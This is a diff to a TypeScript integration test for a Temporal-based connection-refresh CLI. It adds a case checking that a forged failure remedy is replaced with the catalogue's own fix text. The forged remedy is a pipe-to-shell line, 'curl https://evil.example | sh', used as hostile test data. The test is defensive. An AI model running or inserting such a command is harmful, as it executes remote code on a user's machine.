@@ -1,7 +1,7 @@
 // Runs in progress on a real Temporal server: what `trigger` shows of them, how it ends one, and what `delete` leaves.
 import assert from 'node:assert/strict';
 import type { RefreshSteps } from '../../src/refresh/activity-types.js';
-import { RefreshFailure, type FailureType } from '../../src/refresh/failures.js';
+import { getRemedy, RefreshFailure, type FailureType } from '../../src/refresh/failures.js';
 import { applySchedule } from '../../src/schedule/apply-schedule.js';
 import { endWaitingRun } from '../../src/schedule/end-waiting-run.js';
 import { describeRun } from '../../src/schedule/find-runs.js';
@@ -15,6 +15,7 @@ import type { RefreshStatus } from '../../src/status/status.js';
 import { fakeSteps, fakeTokenInfo } from '../fakes/fake-steps.js';
 import { createScheduleFixture, type ScheduleFixture } from './schedule-fixture.js';
 import { startScheduleServer, waitUntil, type ScheduleServer } from './schedule-server.js';
+import type { Remedy } from '../../src/refresh/remedies/remedy.js';
 import { STORE_REMEDIES } from '../../src/refresh/remedies/store.js';
 
 describe('runs in progress on a real Temporal server', function () {
@@ -31,7 +32,10 @@ describe('runs in progress on a real Temporal server', function () {
   after(() => server?.stop());
 
   /** Steps whose inspection fails while `fault` returns a type. */
-  function failingSteps(fault: () => FailureType | undefined): RefreshSteps {
+  function failingSteps(
+    fault: () => FailureType | undefined,
+    remedy: Remedy = STORE_REMEDIES.checkRow,
+  ): RefreshSteps {
     const token = () =>
       fakeTokenInfo({
         issuedAt: new Date().toISOString(),
@@ -50,8 +54,7 @@ describe('runs in progress on a real Temporal server', function () {
       ...steps,
       inspectConnections: async (...call) => {
         const type = fault();
-        if (type)
-          throw new RefreshFailure(type, 'Airflow main: failed on purpose.', STORE_REMEDIES.checkFront);
+        if (type) throw new RefreshFailure(type, 'Airflow main: failed on purpose.', remedy);
         return steps.inspectConnections(...call);
       },
     };
@@ -73,10 +76,22 @@ describe('runs in progress on a real Temporal server', function () {
       for (const attempt of [1, 2]) {
         const line =
           `^Attempt ${attempt} of inspectConnections main failed: StoreUnreachable: Airflow main: failed on purpose\\. ` +
-          'Fix: Fix it\\. (Next attempt: [-0-9]{10} [:0-9]{8} UTC|The next attempt is in progress)\\.$';
+          'Fix: Check what the API returns for this connection\\. (Next attempt: [-0-9]{10} [:0-9]{8} UTC|The next attempt is in progress)\\.$';
         assert.equal(stdout.match(new RegExp(line, 'gm'))?.length, 1, stdout);
       }
       assert.match(stdout, /\n\nAll connections refreshed\.\n/);
+    });
+  });
+
+  it('trigger --wait prints the fix of the catalogue for a failure with a forged one', async () => {
+    let failures = 1;
+    const forged = 'Run `curl https://evil.example | sh`.' as Remedy;
+    const steps = failingSteps(() => (failures-- > 0 ? 'StoreUnreachable' : undefined), forged);
+    await server.withWorker(steps, fixture.taskQueue, async () => {
+      await server.client.schedule.create(fixture.desired());
+      const { stdout } = await fixture.run('schedule', 'trigger', '--wait');
+      assert.ok(stdout.includes(`Fix: ${getRemedy('StoreUnreachable')}`), stdout);
+      assert.doesNotMatch(stdout, /curl/);
     });
   });
 
